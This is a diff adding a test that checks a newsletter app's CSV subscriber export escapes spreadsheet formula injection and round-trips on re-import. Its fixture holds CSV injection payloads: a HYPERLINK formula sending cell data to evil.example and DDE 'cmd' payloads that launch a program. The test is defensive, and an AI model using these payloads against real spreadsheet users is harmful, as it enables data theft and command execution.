@@ -192,3 +192,39 @@ def test_export_then_import_round_trips(app, runner, tmp_path: Path, app_overrid
     again = runner.invoke(args=["subscribers", "export"]).stdout
     assert again == exported
     assert _subscriptions(app) == 5
+
+
+FORMULAS = {
+    "formula@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "plus@example.org": "+cmd|' /C calc'!A0",
+    "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "minus@example.org": "-2+3",
+    "-2+3@example.org": "Plain",
+}
+
+
+def _formula_file(tmp_path: Path) -> Path:
+    rows = "".join(f'{email},"{name.replace(chr(34), chr(34) * 2)}"\n' for email, name in FORMULAS.items())
+    return _csv(tmp_path, "email,name\n" + rows, "formulas.csv")
+
+
+def test_export_neutralises_formulas_and_imports_them_back(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """A name or address a spreadsheet would run as a formula is exported as text (a leading
+    apostrophe, as OWASP advises), and importing the export gives back the original values."""
+    load_newsletter(app)
+    assert runner.invoke(args=["subscribers", "import", str(_formula_file(tmp_path))]).exit_code == 0
+    exported = runner.invoke(args=["subscribers", "export"]).stdout
+    rows = {r["email"].removeprefix("'"): r for r in _rows(exported)}
+    for email, name in FORMULAS.items():
+        cells = [rows[email]["email"], rows[email]["name"]]
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+        assert rows[email]["name"] in (name, f"'{name}")
+    assert rows["formula@example.org"]["name"] == "'" + FORMULAS["formula@example.org"]
+    with get_db_of(app).session() as session:
+        session.execute(Subscription.__table__.delete())
+    path = tmp_path / "export.csv"
+    path.write_text(exported)
+    assert runner.invoke(args=["subscribers", "import", str(path)]).exit_code == 0
+    for email, name in FORMULAS.items():
+        assert subscription(app, email).subscriber.name == name  # type: ignore[union-attr]
+    assert runner.invoke(args=["subscribers", "export"]).stdout == exported
